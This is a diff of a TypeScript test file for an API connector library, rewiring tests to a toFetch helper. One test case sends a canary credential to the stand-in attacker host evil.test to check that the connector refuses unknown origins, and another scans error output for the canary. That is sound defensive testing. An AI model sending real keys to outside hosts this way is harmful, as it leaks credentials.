@@ -7,6 +7,7 @@ import { stubFetch } from "../../test/stub-fetch.js";
 import type { Auth } from "../auth/credential-source.js";
 import type { ConnectorOptions } from "../connector/options.js";
 import type { AuthScheme, ProviderProfile } from "../connector/profile.js";
+import { toFetch } from "../connector/to-fetch.js";
 import { graphql } from "../graphql/graphql.js";
 import { circuitBreaker } from "../policies/circuit-breaker.js";
 import { ConnectryError } from "./connectry-error.js";
@@ -175,7 +176,7 @@ const failures: Record<string, (make: Make) => Promise<unknown>> = {
     });
     return make({ fetch, maxAttempts: 1 }).GET("/things");
   },
-  "a refused origin": async (make) => make({}).fetch(`https://evil.test/?key=${canary}`),
+  "a refused origin": async (make) => toFetch(make({}))(`https://evil.test/?key=${canary}`),
   "a mistake in a parameter": async (make) => make({}).GET("/things/{id}"),
 };
 
@@ -193,9 +194,9 @@ describe.each(Object.entries(schemes))(
   },
 );
 
-test("R44: connector.fetch does not repeat it either, where the provider does", async () => {
+test("R44: toFetch does not repeat it either, where the provider does", async () => {
   const server = await serveWith(() => ({ status: 400, body: echo, headers: echoing }));
-  const response = await createAcme({ baseUrl: server.url, auth: canary }).fetch("/things");
+  const response = await toFetch(createAcme({ baseUrl: server.url, auth: canary }))("/things");
   expect(response.status).toBe(400);
   expect(canaryScan(canary, await response.json())).toEqual([]);
 });
